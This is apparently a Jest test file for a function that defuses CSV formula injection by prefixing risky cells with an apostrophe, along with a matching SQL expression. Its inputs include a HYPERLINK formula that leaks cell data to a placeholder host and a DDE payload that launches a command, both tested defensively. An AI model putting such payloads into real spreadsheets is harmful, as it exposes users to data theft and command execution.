import { describe, expect, it } from '@jest/globals';
import { defuseFormula, defuseFormulaSql, FORMULA_LEADING_CHARACTERS, startsLikeFormula } from './formula.js';

describe('CSV formula defusing (OWASP, CSV Injection)', () => {
  it.each<[string, string]>([
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://x.invalid/?leak="&A2,"y")', '\'=HYPERLINK("http://x.invalid/?leak="&A2,"y")'],
    ['@SUM(9)', "'@SUM(9)"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['-', "'-"],
    ['-1e5', "'-1e5"],
    ['- 5', "'- 5"],
    ['-5', '-5'],
    ['-0.25', '-0.25'],
    ['', ''],
    ['Nguyễn Thị Hương', 'Nguyễn Thị Hương'],
    ['Lý do: a=b, -c', 'Lý do: a=b, -c'],
    [' =1', ' =1'],
    ["'=1", "'=1"],
  ])('writes %j as %j', (text, expected) => {
    expect(defuseFormula(text)).toBe(expected);
    expect(startsLikeFormula(text)).toBe(expected !== text);
  });

  it('knows the six leading characters of OWASP', () => {
    expect([...FORMULA_LEADING_CHARACTERS].sort()).toEqual(['\t', '\r', '+', '-', '=', '@'].sort());
  });

  it('writes the same test in SQL: the leading character by its code, then the number pattern', () => {
    expect(defuseFormulaSql('d.signer_name')).toBe(
      String.raw`CASE WHEN ascii(d.signer_name) IN (61, 43, 45, 64, 9, 13) AND d.signer_name !~ E'^-[0-9]+(\\.[0-9]+)?$' ` +
        `THEN '''' || d.signer_name ELSE d.signer_name END`,
    );
  });
});
